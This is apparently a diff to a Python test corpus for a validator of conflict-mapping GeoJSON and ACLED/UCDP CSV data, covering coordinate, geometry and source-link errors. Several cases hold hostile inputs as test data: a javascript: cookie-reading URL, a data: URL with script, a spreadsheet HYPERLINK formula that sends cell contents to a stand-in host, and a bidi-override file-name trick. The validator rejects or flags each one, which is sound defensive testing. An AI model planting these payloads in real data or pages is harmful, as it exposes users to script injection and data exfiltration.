@@ -454,6 +454,15 @@ CORPUS = [
          "error", SNAP, F0, "each position must be an array of 2 numbers (lon, lat) or 3 (lon, lat, height)"),
     Case("3d-coordinates", [gj(SNAP, feat(poly([[[*p, 250.0] for p in WEST["coordinates"][0]]])))],
          "warning", SNAP, F0, "3D coordinates: Z values dropped"),
+    Case("antimeridian-ring", [gj(SNAP, feat(poly([[[170, 10], [-170, 10], [-170, 20], [170, 20], [170, 10]]])))],
+         "error", SNAP, F0, "polygon lies outside the area of interest"),
+    Case("latitude-beyond-90", [gj(SNAP, feat(sq(35.9, 120.0, 36.0, 120.1)))], "error", SNAP, F0,
+         "coordinates (35.9, 120) are outside lon ±180 / lat ±90: longitude and latitude swapped? GeoJSON is "
+         "[longitude, latitude]"),
+    Case("longitude-beyond-180", [gj(SNAP, feat(sq(200.0, 10.0, 200.1, 10.1)))], "error", SNAP, F0,
+         "coordinates (200, 10) are outside lon ±180 / lat ±90"),
+    Case("topojson", [raw("2017-02-01.json", json.dumps({"type": "Topology", "objects": {}, "arcs": []}))], "error",
+         "2017-02-01.json", "file", "must be a GeoJSON FeatureCollection"),
     # --- geometry
     Case("unclosed-ring", [gj(SNAP, feat({"type": "Polygon", "coordinates": [WEST["coordinates"][0][:-1]]}))],
          "warning", SNAP, F0, "ring was not closed (first position != last): closed it"),
@@ -476,6 +485,9 @@ CORPUS = [
     Case("small-loop-repaired", [gj(SNAP, feat({"type": "Polygon", "coordinates": [[list(p) for p in LOOP]]}))],
          "warning", SNAP, F0,
          "invalid polygon (Self-intersection[38.905 36]) repaired with make_valid; area changed by 0.26%"),
+    Case("zero-area-spike", [gj(SNAP, feat(poly([[[38.9, 35.9], [39.0, 35.9], [39.05, 35.9], [38.9, 35.9]]])))],
+         "error", SNAP, F0, "invalid polygon (Self-intersection[39 35.9]); repairing it would change its area by all "
+         "of it: fix it by hand and review"),
     Case("duplicate-feature", [gj(SNAP, feat(WEST), feat(WEST))], "error", SNAP, "feature 1",
          "duplicate of 2017-02-01.geojson feature 0 (same date, faction and polygon)"),
     Case("overlapping-factions", [gj(SNAP, feat(WEST, "SDF"), feat(sq(38.99, 35.9, 39.1, 36.0), "ISIS"))], "error",
@@ -530,6 +542,11 @@ CORPUS = [
          "acled.csv", L2, "source 'javascript:alert(document.cookie)' is not an http(s) URL"),
     Case("data-url-in-ucdp-source", [ucdp(ucdp_row(article="see data:text/html,<script>x</script>"))], "error",
          "ged.csv", "line 2 (123)", "source_article 'data:text/html,<script>x</script>' is not an http(s) URL"),
+    Case("credentials-in-link", [acled(acled_row(source="Wire http://user:secret@example.org/a"))], "error",
+         "acled.csv", L2, "source: a link with a user name or password is not accepted "
+         "('http://user:secret@example.org/a')"),
+    Case("latitude-95", [acled(acled_row(lat="95"))], "error", "acled.csv", L2,
+         "longitude 38.95 / latitude 95 are outside ±180 / ±90"),
     Case("formula-injection", [acled(acled_row(notes='=HYPERLINK("http://x/?"&A1,"click")'))], "warning",
          "acled.csv", L2, "notes starts with '=': stored as text; a spreadsheet opening it may run a formula"),
     Case("bidi-override", [acled(acled_row(notes="safe \u202etxt.exe"))], "warning", "acled.csv", L2,
